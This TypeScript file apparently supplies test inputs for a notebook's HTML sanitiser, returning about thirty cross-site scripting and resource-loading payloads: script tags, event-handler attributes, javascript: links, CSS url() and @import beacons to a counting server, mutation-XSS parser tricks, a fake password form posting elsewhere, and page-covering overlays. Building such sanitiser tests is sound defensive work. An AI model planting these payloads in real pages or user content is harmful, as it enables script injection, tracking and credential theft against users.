/** HTML that a stranger might put into a notebook. @param there address of a server that counts */
export function htmlAttacks(there: string): string[] {
	const run = 'window.__pwned = 1';
	return [
		`<script src="${there}/script"></script><script>${run}</script>`,
		`<img src="${there}/img" onerror="${run}"><img src=x onerror="${run}"><img srcset="${there}/srcset 1x">`,
		`<picture><source srcset="${there}/source"><img></picture><input type="image" src="${there}/input">`,
		`<svg onload="${run}"><image href="${there}/image"/><image xlink:href="${there}/xlink"/><use href="${there}/use#a"/><script>${run}</script></svg>`,
		`<svg><rect width="9" height="9" fill="url(${there}/fill#a)" style="mask: url(${there}/mask#a)"/><animate onbegin="${run}" attributeName="x"/></svg>`,
		`<svg><a href="javascript:${run}"><text y="20">go</text></a><set attributeName="href" to="javascript:${run}"/></svg>`,
		`<svg><foreignObject><iframe src="${there}/foreign"></iframe></foreignObject><feImage href="${there}/fe"/></svg>`,
		`<style>@import "${there}/import"; body { background: url(${there}/body)}</style>`,
		`<div style="background: url(${there}/background); list-style: url(${there}/list); cursor: url(${there}/cursor), auto">x</div>`,
		`<div style="background-image: image-set('${there}/set' 1x); border-image: url(${there}/border)">x</div>`,
		`<div style="--x: url(${there}/variable); background: var(--x)">x</div>`,
		`<div style="background: u\\72l(${there}/escape)">x</div><div style='background: URL("${there}/upper")'>x</div>`,
		`<iframe src="${there}/frame"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
		`<object data="${there}/object"></object><embed src="${there}/embed"><frameset><frame src="${there}/frameset">`,
		`<link rel="stylesheet" href="${there}/sheet"><link rel="preload" as="image" href="${there}/preload"><link rel="prefetch" href="${there}/prefetch">`,
		`<base href="${there}/"><meta http-equiv="refresh" content="0; url=${there}/refresh">`,
		`<form id="steal" action="${there}/form"><input name="password" autofocus onfocus="${run}"><button formaction="${there}/button">Log in</button></form>`,
		`<a href="${there}/link" ping="${there}/ping" target="_top">Read on</a><a href="javascript:${run}">or here</a><map><area href="${there}/area"></map>`,
		`<video src="${there}/video" poster="${there}/poster" autoplay></video><audio src="${there}/audio" autoplay></audio>`,
		`<table background="${there}/table"><tr><td background="${there}/cell">x</td></tr></table>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${there}/mutation onerror=${run}&gt;">`,
		`<noscript><p title="</noscript><img src='${there}/noscript' onerror='${run}'>">`,
		`<svg></p><style><a id="</style><img src=${there}/style onerror=${run}>">`,
		`<template shadowrootmode="open"><img src="${there}/shadow" onerror="${run}"></template>`,
		`<details open ontoggle="${run}"><summary>x</summary></details><dialog open>x</dialog><div popover id="p">x</div>`,
		`<div id="attributes" name="body" class="visually-hidden" role="status" tabindex="0">Passed</div><img name="cookie">`,
		`<div style="position: fixed; inset: 0; z-index: 99999; background: red">cover</div>`,
		`<div style="margin-top: -3000px; width: 9000px; height: 9000px; background-color: red">cover</div>`,
		`<table><tr>${'<td colspan="1000">x</td>'.repeat(500)}</tr></table>`,
		`<img src="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}">`
	];
}
